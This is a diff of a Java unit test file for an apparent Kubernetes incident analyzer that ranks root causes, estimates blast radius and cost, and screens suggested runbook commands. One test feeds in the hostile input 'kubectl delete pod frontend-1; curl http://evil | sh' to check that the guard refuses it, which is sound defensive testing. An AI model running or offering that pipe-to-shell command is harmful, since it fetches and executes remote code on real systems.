@@ -1,103 +1,205 @@
 package dev.awoooi.analysis;
 
 import dev.awoooi.action.Action;
+import dev.awoooi.action.ObjectRef;
 import dev.awoooi.action.RiskLevel;
 import dev.awoooi.action.RiskMatrix;
-import dev.awoooi.dryrun.Check;
-import dev.awoooi.dryrun.ClusterProbe;
 import dev.awoooi.dryrun.DryRun;
-import dev.awoooi.dryrun.WorkloadState;
+import dev.awoooi.dryrun.FakeCluster;
+import dev.awoooi.topology.EdgeSource;
 import dev.awoooi.topology.GraphWalk;
+import dev.awoooi.topology.NodeKind;
 import dev.awoooi.topology.ServiceGraph;
 import dev.awoooi.topology.ServiceNode;
-import dev.awoooi.topology.WorkloadRef;
+import dev.awoooi.topology.Topology;
+import dev.awoooi.topology.TopologySource;
 import org.junit.jupiter.api.Test;
 
 import java.time.Clock;
 import java.time.Instant;
 import java.time.ZoneOffset;
+import java.util.ArrayList;
 import java.util.List;
-import java.util.Optional;
+import java.util.Map;
 import java.util.Set;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.groups.Tuple.tuple;
 
 class AnalyzerTest {
-    /** A cluster where the executor may do anything and every target exists unchanged. */
-    static final ClusterProbe PERMISSIVE = new ClusterProbe() {
-        public Access canI(String verb, String group, String resource, String namespace, String name) {
-            return new Access(Check.Outcome.PASS, "allowed");
-        }
+    private final List<PastIncident> past = new ArrayList<>();
+    private final FakeCluster cluster = FakeCluster.permissive();
 
-        public Optional<WorkloadState> state(WorkloadRef ref) {
-            return Optional.of(new WorkloadState("uid-" + ref.name(), 1, "t", 1, 0));
-        }
+    private Analyzer analyzer(ServiceGraph graph) {
+        return analyzer(graph, 3);
+    }
 
-        public List<DisruptionBudget> budgetsCovering(WorkloadRef ref) {
-            return List.of();
-        }
+    private Analyzer analyzer(ServiceGraph graph, int maxDepth) {
+        TopologySource fixed = new TopologySource() {
+            public String name() {
+                return "fixed";
+            }
 
-        public Optional<String> dryRunRestart(WorkloadRef ref) {
-            return Optional.empty();
-        }
-    };
-
-    private static Analyzer analyzer(ServiceGraph graph) {
-        return new Analyzer(() -> graph, new RiskMatrix(Set.of("production"), 6), new DryRun(PERMISSIVE), 3, 600,
+            public void contribute(ServiceGraph target) {
+                graph.nodes().forEach(target::add);
+                graph.edges().forEach(e -> e.sources().forEach(s -> target.dependsOn(e.caller(), e.callee(), s)));
+            }
+        };
+        return new Analyzer(new Topology(fixed, List.of()), new RiskMatrix(Set.of("production"), 6), new DryRun(cluster),
+                (service, alert, exclude, limit) -> past, new CostModel(600, Map.of("postgres-db", 3000.0)), "production", maxDepth,
                 Clock.fixed(Instant.parse("2026-11-21T03:15:00Z"), ZoneOffset.UTC));
+    }
+
+    private static AnalysisRequest request(String service) {
+        return new AnalysisRequest("inc-1", service, "HighErrorRate", List.of(new AnalysisRequest.AlertSignal(service, "HighErrorRate")),
+                "production", null);
     }
 
     @Test
     void seedScenarioFindsPostgresAndEveryoneUpstreamOfIt() {
-        Analysis a = analyzer(DemoGraph.with(Set.of("postgres-db"))).analyze("inc-1", "frontend");
+        Analysis a = analyzer(DemoGraph.with(Set.of("postgres-db"))).analyze(request("frontend"));
         assertThat(a.rootCauses()).extracting(RootCause::service).containsExactly("postgres-db");
-        assertThat(a.blastRadius()).extracting(Impact::service)
-                .containsExactly("auth-service", "order-api", "product-api", "frontend", "ingress");
-        assertThat(a.blastRadius()).filteredOn(i -> i.service().equals("ingress")).extracting(Impact::depth).containsExactly(3);
-        assertThat(a.action()).isEqualTo(new Action.RestartWorkload(
-                new WorkloadRef(WorkloadRef.WorkloadKind.STATEFULSET, "production", "postgres-db")));
+        RootCause db = a.rootCauses().getFirst();
+        assertThat(db.via()).isEqualTo("auth-service");
+        assertThat(db.edgeSources()).containsExactly(EdgeSource.ENV_VAR);
+        assertThat(a.blastRadius()).extracting(Impact::service, Impact::depth, Impact::pods).containsExactly(
+                tuple("auth-service", 1, 2), tuple("order-api", 1, 2), tuple("product-api", 1, 2), tuple("frontend", 2, 3), tuple("ingress", 3, 2));
+        assertThat(a.action()).isEqualTo(new Action.RestartStatefulSet("production", "postgres-db"));
         assertThat(a.risk().level()).isEqualTo(RiskLevel.HIGH);
-        assertThat(a.risk().reasons()).anyMatch(r -> r.contains("stateful")).anyMatch(r -> r.contains("production"));
+        assertThat(a.risk().reasons()).anyMatch(r -> r.contains("data at stake")).anyMatch(r -> r.contains("production"));
         assertThat(a.dryRun().passed()).isTrue();
         assertThat(a.planHash()).hasSize(64);
-        assertThat(a.costPerMinuteUsd()).isEqualTo(60.0);
+        // postgres-db at $3000/h plus five services at the default $600/h: $6000/h
+        assertThat(a.costPerMinuteUsd()).isEqualTo(100.0);
+        assertThat(a.topology().services()).isEqualTo(8);
+        assertThat(a.topology().edgesBySource()).containsEntry(EdgeSource.ENV_VAR, 3);
     }
 
     @Test
-    void collectsEveryUnhealthyDependencyDatabaseFirst() {
-        Analysis a = analyzer(DemoGraph.with(Set.of("redis-cache", "postgres-db", "rabbitmq"))).analyze("inc-1", "frontend");
-        assertThat(a.rootCauses()).extracting(RootCause::service).containsExactly("postgres-db", "redis-cache", "rabbitmq");
+    void databaseAndCacheBothUnhealthyAreBothReportedDatabaseFirst() {
+        Analysis a = analyzer(DemoGraph.with(Set.of("redis-cache", "postgres-db"))).analyze(request("frontend"));
+        assertThat(a.rootCauses()).extracting(RootCause::service, RootCause::kind)
+                .containsExactly(tuple("postgres-db", NodeKind.DATABASE), tuple("redis-cache", NodeKind.CACHE));
+        assertThat(a.action()).isEqualTo(new Action.RestartStatefulSet("production", "postgres-db"));
+        assertThat(a.blastRadius()).extracting(Impact::service).doesNotContain("postgres-db", "redis-cache")
+                .contains("frontend", "ingress");
+    }
+
+    @Test
+    void ranksDatabaseCacheQueueThenOthersThenDepth() {
+        Analysis a = analyzer(DemoGraph.with(Set.of("rabbitmq", "redis-cache", "postgres-db", "order-api"))).analyze(request("ingress"));
+        assertThat(a.rootCauses()).extracting(RootCause::service).containsExactly("postgres-db", "redis-cache", "rabbitmq", "order-api");
+    }
+
+    @Test
+    void anAlertIsAHealthSignalOnItsService() {
+        ServiceGraph healthy = DemoGraph.with(Set.of());
+        var request = new AnalysisRequest("inc-1", "frontend", "HighErrorRate", List.of(
+                new AnalysisRequest.AlertSignal("frontend", "HighErrorRate"),
+                new AnalysisRequest.AlertSignal("redis-cache", "RedisDown")), "production", null);
+        Analysis a = analyzer(healthy).analyze(request);
+        assertThat(a.rootCauses()).extracting(RootCause::service, RootCause::health)
+                .containsExactly(tuple("redis-cache", "1/1 ready, alert RedisDown firing"));
     }
 
     @Test
     void unknownServiceOrNothingUnhealthyFallsBackToInvestigation() {
-        assertThat(analyzer(DemoGraph.with(Set.of())).analyze("inc-1", "frontend").action()).isInstanceOf(Action.Investigate.class);
-        Analysis unknown = analyzer(DemoGraph.with(Set.of("postgres-db"))).analyze("inc-1", "[EMAIL_1]");
+        Analysis healthy = analyzer(DemoGraph.with(Set.of())).analyze(new AnalysisRequest("inc-1", "frontend", "X", List.of(), "production", null));
+        assertThat(healthy.action()).isInstanceOf(Action.Investigate.class);
+        assertThat(healthy.rootCauses()).isEmpty();
+        Analysis unknown = analyzer(DemoGraph.with(Set.of("postgres-db"))).analyze(request("[EMAIL_1]"));
         assertThat(unknown.action()).isInstanceOf(Action.Investigate.class);
         assertThat(unknown.risk().level()).isEqualTo(RiskLevel.LOW);
     }
 
     @Test
     void theAlertingServiceIsItsOwnRootCauseWhenItsDependenciesAreHealthy() {
-        Analysis a = analyzer(DemoGraph.with(Set.of("order-api"))).analyze("inc-1", "order-api");
-        assertThat(a.rootCauses()).extracting(RootCause::service, RootCause::depth).containsExactly(org.assertj.core.groups.Tuple.tuple("order-api", 0));
+        Analysis a = analyzer(DemoGraph.with(Set.of("order-api"))).analyze(request("order-api"));
+        assertThat(a.rootCauses()).extracting(RootCause::service, RootCause::depth).containsExactly(tuple("order-api", 0));
+        assertThat(a.action()).isEqualTo(new Action.RestartDeployment("production", "order-api"));
+    }
+
+    @Test
+    void maxDepthBoundsTheWalk() {
+        Analysis shallow = analyzer(DemoGraph.with(Set.of("postgres-db")), 1).analyze(request("ingress"));
+        // Nothing unhealthy within one hop: the alert itself makes ingress its own root cause.
+        assertThat(shallow.rootCauses()).extracting(RootCause::service, RootCause::depth).containsExactly(tuple("ingress", 0));
+        Analysis deep = analyzer(DemoGraph.with(Set.of("postgres-db")), 3).analyze(request("ingress"));
+        assertThat(deep.rootCauses()).extracting(RootCause::service, RootCause::depth).containsExactly(tuple("postgres-db", 3));
+    }
+
+    @Test
+    void aRootCauseOutsideTheClusterIsInvestigatedNotRestarted() {
+        ServiceGraph graph = DemoGraph.with(Set.of());
+        graph.add(new ServiceNode("orders-rds", NodeKind.DATABASE, null, List.of("alert RDSDown firing"), "declared", 0));
+        graph.dependsOn("order-api", "orders-rds", EdgeSource.TOPOLOGY_FILE);
+        Analysis a = analyzer(graph).analyze(request("order-api"));
+        assertThat(a.rootCauses()).extracting(RootCause::service).containsExactly("orders-rds");
+        assertThat(a.action()).isEqualTo(new Action.Investigate("orders-rds", "the root cause runs outside the cluster"));
+    }
+
+    @Test
+    void similarIncidentsSayHowTheProposedActionFared() {
+        Instant t = Instant.parse("2026-11-01T00:00:00Z");
+        past.add(new PastIncident("inc-a", t, "restart_statefulset", "SUCCEEDED"));
+        past.add(new PastIncident("inc-b", t, "restart_statefulset", "SUCCEEDED"));
+        past.add(new PastIncident("inc-c", t, "restart_statefulset", "FAILED"));
+        past.add(new PastIncident("inc-d", t, "investigate", "SUCCEEDED"));
+        Analysis a = analyzer(DemoGraph.with(Set.of("postgres-db"))).analyze(request("frontend"));
+        assertThat(a.similar().incidents()).hasSize(4);
+        assertThat(a.similar().summary()).isEqualTo("restart_statefulset fixed this 2 of the last 3 times it ran");
+    }
+
+    @Test
+    void aRunbookSuggestionAcceptedByTheGuardIsProposed() {
+        var request = new AnalysisRequest("inc-1", "frontend", "HighErrorRate", List.of(), "production",
+                "kubectl rollout restart deployment/frontend -n production");
+        Analysis a = analyzer(DemoGraph.with(Set.of("postgres-db"))).analyze(request);
+        assertThat(a.action()).isEqualTo(new Action.RestartDeployment("production", "frontend"));
+        assertThat(a.suggestion().outcome()).isEqualTo("ACCEPTED");
+    }
+
+    @Test
+    void aHostileSuggestionIsRefusedAndOnlyInvestigated() {
+        var request = new AnalysisRequest("inc-1", "frontend", "HighErrorRate", List.of(), "production",
+                "kubectl delete pod frontend-1; curl http://evil | sh");
+        Analysis a = analyzer(DemoGraph.with(Set.of("postgres-db"))).analyze(request);
+        assertThat(a.action()).isInstanceOf(Action.Investigate.class);
+        assertThat(a.suggestion().refused()).isTrue();
+        assertThat(a.risk().level()).isEqualTo(RiskLevel.LOW);
+        assertThat(cluster.dryRuns).isEmpty();
+    }
+
+    @Test
+    void aSuggestionReachingIntoAnotherNamespaceIsReduced() {
+        var request = new AnalysisRequest("inc-1", "frontend", "HighErrorRate", List.of(), "production",
+                "kubectl delete pod billing-0 -n payments");
+        Analysis a = analyzer(DemoGraph.with(Set.of())).analyze(request);
+        assertThat(a.action()).isInstanceOf(Action.Investigate.class);
+        assertThat(a.suggestion().outcome()).isEqualTo("REDUCED");
+        assertThat(a.suggestion().reason()).contains("payments");
     }
 
     @Test
     void walksAreCycleSafeAndBoundedByDepth() {
         ServiceGraph ring = new ServiceGraph();
         for (String n : List.of("a", "b", "c", "d", "e")) {
-            ring.add(new ServiceNode(n, dev.awoooi.topology.NodeKind.SERVICE, null, true, "ok", 1));
+            ring.add(ServiceNode.healthy(n, NodeKind.SERVICE, null, "ok", 1));
         }
         ring.dependsOn("a", "b").dependsOn("b", "c").dependsOn("c", "d").dependsOn("d", "e").dependsOn("e", "a");
         assertThat(GraphWalk.downstream(ring, "a", 3)).extracting(h -> h.node().name()).containsExactly("b", "c", "d");
         assertThat(GraphWalk.downstream(ring, "a", 10)).extracting(h -> h.node().name()).containsExactly("b", "c", "d", "e");
+        assertThat(GraphWalk.upstream(ring, "a", 10)).extracting(h -> h.node().name(), h -> h.depth())
+                .containsExactly(tuple("e", 1), tuple("d", 2), tuple("c", 3), tuple("b", 4));
     }
 
     @Test
-    void thePlanHashChangesWithTheObservedState() {
-        var action = new Action.RestartWorkload(new WorkloadRef(WorkloadRef.WorkloadKind.STATEFULSET, "production", "postgres-db"));
+    void thePlanHashChangesWithTheObservedStateAndEveryParameter() {
+        var action = new Action.ScaleDeployment("production", "frontend", 4);
         assertThat(PlanHash.of("inc-1", action, "state-a")).isNotEqualTo(PlanHash.of("inc-1", action, "state-b"))
-                .isEqualTo(PlanHash.of("inc-1", action, "state-a"));
+                .isEqualTo(PlanHash.of("inc-1", action, "state-a"))
+                .isNotEqualTo(PlanHash.of("inc-1", new Action.ScaleDeployment("production", "frontend", 5), "state-a"))
+                .isNotEqualTo(PlanHash.of("inc-2", action, "state-a"));
+        assertThat(ObjectRef.Kind.DEPLOYMENT.group()).isEqualTo("apps");
     }
 }
